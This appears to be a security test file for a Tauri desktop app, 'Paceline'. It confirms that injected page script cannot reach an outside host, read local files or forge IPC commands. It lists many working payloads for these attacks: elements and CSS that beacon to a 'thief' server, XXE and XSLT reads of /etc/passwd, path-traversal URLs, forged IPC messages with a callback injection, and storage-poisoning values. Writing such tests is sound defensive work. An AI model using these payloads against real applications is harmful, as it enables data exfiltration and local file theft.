/**
 * More ways of a script in the page to another host, a file, a command or the next start of the page, each a line of a table. None
 * leads anywhere.
 */

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { serve } from "./lib/provider.mjs";
import { open } from "./lib/window.mjs";

/** Elements that fetch, follow or send by themselves: what is put into the page, with $ for the other host. */
const ELEMENTS = [
  '<body background="$/body">',
  '<table background="$/table"><tr><td background="$/cell">x</table>',
  '<input type="image" src="$/input-image"><input type="submit" formaction="$/formaction">',
  '<button form="none" formaction="$/button">x</button>',
  '<img lowsrc="$/lowsrc" longdesc="$/longdesc" srcset="$/srcset-1 1x, $/srcset-2 2x" src="x">',
  '<video controls><source src="$/video-source"><track src="$/video-track" default></video>',
  '<audio autoplay><source src="$/audio-source"></audio>',
  '<link rel="alternate stylesheet" href="$/alternate" title="x"><link rel="apple-touch-icon" href="$/touch-icon">',
  '<link rel="mask-icon" href="$/mask-icon"><link rel="search" href="$/search"><link rel="next" href="$/next">',
  '<link rel="preload" as="image" imagesrcset="$/imagesrcset 1x"><link rel="preload" as="font" href="$/font" crossorigin>',
  '<link rel="preload" as="fetch" href="$/preload-fetch" crossorigin><link rel="stylesheet" href="data:text/css,@import url($/of-data-css);">',
  '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'; report-uri $/report">',
  '<meta http-equiv="set-cookie" content="x=y"><meta http-equiv="refresh" content="0;url=data:text/html,<script>location=\'$/refresh\'</script>">',
  '<frameset><frame src="$/frame"></frameset><applet code="x" archive="$/applet"></applet><bgsound src="$/bgsound">',
  '<iframe src="data:text/html,<img src=$/of-data-frame>"></iframe><iframe srcdoc="<base href=$><img src=/of-base>"></iframe>',
  '<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location=\'$/top\'</script>"></iframe>',
  '<object data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'$/object-svg\'/></svg>"></object>',
  '<embed src="data:text/html,<img src=$/of-embed>" type="text/html">',
  '<svg><image xlink:href="$/xlink"/><feImage href="$/feimage"/><use href="$/use.svg#x"/><script href="$/svg-script"/></svg>',
  '<svg><a href="#x"><animate attributeName="href" to="$/animated"/><text>x</text></a><set attributeName="href" to="$/set"/></svg>',
  '<svg><filter id="f"><feImage href="$/filter"/></filter><rect filter="url($/filter.svg#f)" mask="url($/mask.svg#m)" fill="url($/fill.svg#p)"/></svg>',
  '<math><maction actiontype="statusline#$" href="$/math">x</maction></math><form id="f" action="$/form-get"><input name="x" value="y"></form>',
  '<div style="background:image-set(\'$/image-set\' 1x); content:url($/content); filter:url($/css-filter#x); clip-path:url($/clip#x)">x</div>',
  '<div style="border-image:url($/border) 1; shape-outside:url($/shape); offset-path:url($/offset#x); cursor:url($/css-cursor),auto">x</div>',
  '<style>@font-face{font-family:q;src:url($/font-face)} @import "$/import-1"; @import url("$/import-2") layer(x); p::before{content:url($/before)} .q{font-family:q}</style><p class="q">q</p>',
  '<style>@namespace url($/namespace); @counter-style x{symbols:url($/symbols)} :root{--x:url($/custom)} body{background:var(--x)} @media print{body{background:url($/print)}}</style>',
  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["$/speculated"]}]}</script><script type="importmap">{"imports":{"x":"$/mapped"}}</script>',
  '<script type="module">import "$/module-inline";</script><script src="data:text/javascript,fetch(\'$/data-script\')"></script>',
  '<a id="go" href="$/area" target="_top" ping="$/ping-2">x</a><map name="m"><area href="$/area-2"></map>',
  '<details open ontoggle="fetch(\'$/ontoggle\')"></details><img src=x onerror="new Image().src=\'$/onerror\'">',
];

/** Addresses that might be shown, fetched or opened with something of this machine. */
const ADDRESSES = [
  "file:///etc/passwd",
  "file://localhost/etc/passwd",
  "view-source:file:///etc/passwd",
  "resource:///org/webkit/inspector/UserInterface/Main.html",
  "inspector://127.0.0.1:1",
  "about:gpu",
  "about:config",
  "webkit://gpu",
  "webkit-pdfjs-viewer://pdfjs/web/viewer.html",
  "trash:///",
  "ftp://127.0.0.1/x",
  "gopher://127.0.0.1/x",
  "paceline://settings",
  "paceline:settings",
  "asset://localhost/etc/passwd",
  "tauri://localhost/../../../etc/passwd",
  "tauri://localhost/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
  "tauri://localhost//etc/passwd",
  "tauri://evil/etc/passwd",
  "tauri://localhost:99/index.html",
  "tauri://user:pass@localhost/index.html",
  "ipc://localhost/startup",
  "ipc://evil/startup",
  "safe-mode://localhost/restart",
  "blob:tauri://localhost/x",
  "data:text/html,<script>top.location='about:blank'</script>",
  "filesystem:tauri://localhost/temporary/x",
  "mailto:x@example.com",
];

/** What is handed to the transport of commands past the page's own function. */
function messages() {
  let deep = "1";
  for (let level = 0; level < 20_000; level += 1) deep = `[${deep}]`;
  const forged = (cmd, payload = {}, more = {}) =>
    JSON.stringify({ cmd, callback: 1, error: 2, payload, options: {}, __TAURI_INVOKE_KEY__: "forged", ...more });
  return [
    "",
    "{",
    "null",
    deep,
    "x".repeat(2_000_000),
    "\0",
    "\ud800",
    forged("startup"),
    forged("delete_runs", { ids: ["x"] }),
    forged("plugin:path|resolve_directory", { directory: 21 }),
    forged("plugin:window|close"),
    forged("plugin:fs|read_text_file", { path: "/etc/passwd" }),
    forged("startup", {}, { __TAURI_INVOKE_KEY__: null }),
    forged("startup", {}, { __TAURI_INVOKE_KEY__: ["x"] }),
    forged("startup", {}, { callback: -1, error: 2 ** 53 }),
    forged("startup", {}, { options: { headers: { Origin: "tauri://localhost" } } }),
    forged("startup", {}, { callback: "1);location='about:blank';(", error: "x" }),
  ];
}

describe("a script in the page, by other ways", () => {
  let thief;
  let window;
  let requested;
  let connected;

  before(async () => {
    thief = await serve({ m: () => ({ status: 404, body: {} }) });
    window = await open();
    await window.browser.setTimeout({ script: 120_000 });
    requested = thief.requests.length;
    connected = thief.connections.length;
  });
  after(async () => {
    await window?.close();
    thief?.close();
  });

  /** It is where it was, reached nobody, and starts anew. */
  const mustHold = async (what) => {
    await window.browser.pause(1000);
    const { browser } = window;
    assert.equal((await browser.getWindowHandles()).length, 1, `${what}: no other window`);
    const is = await browser.execute(() => location.href);
    assert.match(is, /^tauri:\/\/localhost(\/|#|$)/, `${what}: the window shows its own page`);
    const reached = thief.requests.slice(requested).map((request) => request.path);
    assert.deepEqual(reached, [], `${what}: nothing reached the other host`);
    assert.deepEqual(thief.connections.slice(connected), [], `${what}: nor was a connection made to it`);
    await browser.execute(() => location.reload());
    await browser.pause(300);
    await browser.$("[data-testid='status-bar']").waitForExist({ timeout: 20_000, timeoutMsg: `${what}: the page starts` });
  };

  it("puts elements into the page, and none fetches", async () => {
    for (const element of ELEMENTS) {
      await window.browser.execute((html) => {
        const box = document.createElement("div");
        box.innerHTML = html;
        document.body.append(box);
        // A script that is put in as text does not run; one that is made does.
        for (const dead of box.querySelectorAll("script")) {
          const script = document.createElement("script");
          for (const { name, value } of dead.attributes) script.setAttribute(name, value);
          script.textContent = dead.textContent;
          document.head.append(script);
        }
        document.head.insertAdjacentHTML("beforeend", html);
        for (const each of document.querySelectorAll("#go, [formaction], svg a, math [href], area")) {
          each.dispatchEvent(new MouseEvent("click", { bubbles: true }));
        }
      }, element.replaceAll("$", thief.url));
    }
    await mustHold("elements");
  });

  it("runs programs of other kinds, and none reaches anything", async () => {
    const gained = await window.browser.execute(async (url) => {
      const got = [];
      const soon = () => new Promise((done) => setTimeout(done, 2_500));
      const ways = {
        "a module of data": () => import(/* @vite-ignore */ `data:text/javascript,export default await fetch("${url}/of-data-module").then(()=>"reached")`).then((it) => it.default),
        "a module of a blob": () => import(/* @vite-ignore */ URL.createObjectURL(new Blob([`fetch("${url}/of-blob-module"); export default "ran"`], { type: "text/javascript" }))).then((it) => it.default),
        "text as a program": () => (0, eval)("'ran'"),
        "a function of text": () => new Function("return 'ran'")(),
        "a timer of text": () => new Promise((done) => { globalThis.ranOfText = () => done("ran"); setTimeout("ranOfText()", 1); }),
        "a worker of data": () => new Promise((done) => { new Worker(`data:text/javascript,postMessage("ran")`).onmessage = () => done("ran"); }),
        "a worker of a module": () => new Promise((done) => { new Worker(URL.createObjectURL(new Blob([`import "${url}/worker-module"; postMessage("ran")`], { type: "text/javascript" })), { type: "module" }).onmessage = () => done("ran"); }),
        "a style sheet of one's own": () => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body{background:url(${url}/adopted)}`); document.adoptedStyleSheets = [sheet]; },
        "a style sheet that is awaited": () => new CSSStyleSheet().replace(`@import "${url}/replaced"`).then(() => null),
        "a style sheet that transforms": () => {
          const parsed = (text) => new DOMParser().parseFromString(text, "text/xml");
          const sheet = parsed(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url}/xsl"/><xsl:template match="/"><x><xsl:copy-of select="document('file:///etc/passwd')"/><xsl:copy-of select="document('${url}/xsl-document')"/></x></xsl:template></xsl:stylesheet>`);
          const processor = new XSLTProcessor();
          processor.importStylesheet(sheet);
          return /root:/.test(processor.transformToDocument(parsed("<a/>"))?.documentElement?.textContent ?? "") && "a file";
        },
        "an entity": () => /root:/.test(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', "text/xml").documentElement.textContent) && "a file",
        "a request in its place": () => { const request = new XMLHttpRequest(); request.open("GET", "file:///etc/passwd", false); request.send(); return request.responseText; },
        "a beacon of a blob": () => void navigator.sendBeacon(`${url}/beacon`, new Blob(["x"], { type: "application/json" })),
        "sockets": () => { for (const to of ["ws", "wss"]) new WebSocket(`${url.replace("http", to)}/socket`, ["a"]); },
        "sockets by another name": () => { new WebSocket(`ws://localhost:${new URL(url).port}/`); new WebSocket(`ws://[::ffff:127.0.0.1]:${new URL(url).port}/`); },
        "a peer by TCP": async () => { const { hostname, port } = new URL(url); const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${hostname}:${port}?transport=tcp`, username: "x", credential: "y" }], iceTransportPolicy: "relay" }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); },
        "the camera": () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => "a stream"),
        "the screen": () => navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => "a stream"),
        "the place": () => new Promise((done) => navigator.geolocation.getCurrentPosition(() => done("a place"), () => done(null))),
        "the clipboard": () => navigator.clipboard.read().then(() => "read"),
        "a paste": () => document.execCommand("paste") && "pasted",
        "a file system": () => showOpenFilePicker().then(() => "a file"),
        "a device": () => navigator.usb.requestDevice({ filters: [] }).then(() => "a device"),
        "a handler": () => navigator.registerProtocolHandler("web+x", `${url}/%s`) && "registered",
        "another window": () => { const other = open("about:blank"); other?.document.write(`<img src="${url}/written">`); return other && "opened"; },
        "a window of data": () => open("data:text/html,x") && "opened",
        "a window without an opener": () => open(url, "_blank", "noreferrer,popup") && "opened",
        "the address, replaced": () => location.replace(`${url}/replaced-place`),
        "a state of another host": () => history.pushState({}, "", url) ?? "pushed",
        "the navigation": () => globalThis.navigation?.navigate(`${url}/navigation`),
        "a document anew": () => { document.open(`${url}/opened`, "x", "noopener"); },
        "the domain": () => { document.domain = "evil"; },
        "a cookie": () => { document.cookie = "x=y; domain=127.0.0.1"; return document.cookie && "kept"; },
      };
      await Promise.all(Object.entries(ways).map(([name, way]) => Promise.race([
        soon(),
        Promise.resolve().then(way).then((gain) => gain && got.push(`${name}: ${String(gain).slice(0, 60)}`), () => undefined),
      ])));
      return got;
    }, thief.url);
    assert.deepEqual(gained, [], "nothing was gained");
    await mustHold("programs");
  });

  it("takes frames for windows of their own, and they have no commands either", async () => {
    const gained = await window.browser.execute(async () => {
      const got = [];
      for (const attributes of [{}, { src: "about:blank" }, { srcdoc: "<p>x" }, { sandbox: "allow-scripts", srcdoc: "<p>x" }, { src: "tauri://localhost/index.html" }, { src: "/index.html" }]) {
        const frame = document.createElement("iframe");
        for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
        document.body.append(frame);
        await new Promise((done) => setTimeout(done, 300));
        const inner = frame.contentWindow;
        const own = (() => { try { return inner?.__TAURI_INTERNALS__; } catch { return null; } })();
        if (own?.invoke) {
          const answer = await Promise.race([
            own.invoke("plugin:path|resolve_directory", { directory: 21 }).catch(() => null),
            new Promise((done) => setTimeout(done, 500)),
          ]);
          if (answer) got.push(`${JSON.stringify(attributes)}: ${answer}`);
        }
      }
      return got;
    });
    assert.deepEqual(gained, [], "none");
    await mustHold("frames");
  });

  it("goes to addresses of this machine, and sees none", async () => {
    const gained = await window.browser.execute(async (addresses) => {
      const got = [];
      for (const address of addresses) {
        for (const way of [
          () => fetch(address).then((answer) => answer.ok && answer.text()),
          () => open(address) && "opened",
          () => { const frame = document.createElement("iframe"); frame.src = address; document.body.append(frame); },
          () => new Promise((done) => { const image = new Image(); image.onload = () => done("drawn"); image.onerror = () => done(null); image.src = address; }),
        ]) {
          const late = new Promise((done) => setTimeout(done, 150));
          const gain = await Promise.race([late, Promise.resolve().then(way).catch(() => null)]);
          // What is not there is the page itself.
          if (gain && !/<!doctype html>[^]*<title>Paceline/i.test(gain)) got.push(`${address}: ${String(gain).slice(0, 60)}`);
        }
      }
      return got;
    }, ADDRESSES);
    assert.deepEqual(gained, [], "nothing was gained");
    // A page of the window's own may be shown again; it is the only one there is.
    for (const address of ADDRESSES.filter((each) => !each.startsWith("tauri://localhost/"))) {
      await window.browser.execute((to) => {
        location.assign(to);
      }, address);
      await window.browser.pause(100);
      assert.match(await window.browser.execute(() => location.href), /^tauri:\/\/localhost/, `it does not go to ${address}`);
    }
    await mustHold("addresses");
  });

  it("forges messages to the transport of commands, and none is obeyed", async () => {
    const before = await window.browser.execute(() => localStorage.length);
    const posted = await window.browser.execute(async (list) => {
      const handlers = Object.values(window.webkit?.messageHandlers ?? {});
      const posts = [window.ipc?.postMessage, window.__TAURI_INTERNALS__.postMessage].filter(Boolean);
      let count = 0;
      for (const message of list) {
        for (const post of [...handlers.map((it) => (text) => it.postMessage(text)), ...posts]) {
          try {
            post(message);
            count += 1;
          } catch {
            // A refusal.
          }
        }
        window.postMessage(message, "*");
        for (const key of ["forged", "", "x".repeat(100_000)]) {
          const answered = fetch("ipc://localhost/delete_runs", {
            method: "POST",
            body: message,
            headers: { "Content-Type": "application/json", "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": key },
          }).catch(() => null);
          // Nobody has to answer.
          await Promise.race([answered, new Promise((done) => setTimeout(done, 200))]);
        }
      }
      return count;
    }, messages());
    assert.ok(posted >= messages().length, `there is a way to post them: ${posted}`);
    assert.equal(await window.browser.execute(() => localStorage.length), before, "nothing was kept");
    await mustHold("messages");
  });

  it("leaves something for the next start, which starts all the same", async () => {
    for (const leave of [
      () => { for (const store of [localStorage, sessionStorage]) for (const key of [...Object.keys(store), "paceline.theme", "paceline.language", "__proto__"]) store.setItem(key, "{\"a\":".repeat(1000)); },
      () => { for (const key of Object.keys(localStorage)) localStorage.setItem(key, "x".repeat(1_000_000)); },
      () => { history.replaceState({ __proto__: null }, "", "/../../%2e%2e/etc/passwd?x#/history/..%2f..%2f"); },
      () => { location.hash = `#/${"a/".repeat(20_000)}`; },
      () => { location.hash = "#/__proto__/constructor/%00/%ff/\ud800"; },
      () => { window.name = "x".repeat(10_000_000); },
    ]) {
      await window.browser.execute(leave);
      await window.browser.execute(() => {
        globalThis.isLeft = true;
        location.reload();
      });
      // A command that meets the change of pages fails.
      const isThere = () => window.browser.execute(() => !globalThis.isLeft && document.querySelector("[data-testid='status-bar']") !== null);
      await window.browser.waitUntil(() => isThere().catch(() => false), { timeout: 20_000, timeoutMsg: `after ${leave}` });
    }
  });
});
